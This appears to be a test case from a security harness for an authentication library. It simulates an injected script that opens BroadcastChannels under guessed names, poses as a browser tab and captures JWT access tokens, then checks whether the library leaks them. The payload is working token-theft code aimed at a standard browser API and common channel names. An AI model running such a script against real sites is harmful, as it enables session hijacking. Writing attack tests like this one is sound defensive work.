// Threat: a script injected into the page listens where tabs talk to each other, and asks like a tab. The attacker has one hole in the
// page's HTML and has read the library's source, so that the channel's name is known. Expected: what tabs hand over to each other is
// handed over to the script too.
import type { Attack } from '../attack.ts'
import { judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = async (kit) => {
  const names = ['/api/auth/', '/auth/', '/'].map((path) => `hallpass ${new URL(path, location.href).href}`)
  for (const name of [...names, 'auth', 'token', 'session', 'supabase.auth.token']) {
    const channel = new BroadcastChannel(name)
    channel.addEventListener('message', ({ data }) => {
      kit.take('token', /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(JSON.stringify(data))?.[0])
    })
    // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a channel never leaves its origin
    channel.postMessage(['ask', ''])
  }
  await new Promise((resolve) => setTimeout(resolve, 300))
}

export const listenChannel: Attack = {
  name: 'listen-channel',
  group: 'script, late',
  title: 'Asks for the token on the tabs’ BroadcastChannel',
  what: 'Tabs of one browser hand the token to each other, so that ten tabs cost one refresh. The script asks as if it were a tab.',
  why: 'Every script of the origin may open the channel. Ours hands the token over to whoever asks there.',
  stops:
    'Not handing tokens over (`share: false`); it buys little, because the same script can call the refresh endpoint.',
  script: { when: 'late', payload: script },
  control: 'hallpass',
  succeedsOn: ['hallpass'],
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await readBook(page)
    return judgeToken(scene, page, await scriptReport(scene), 'was told nothing on any channel')
  },
}
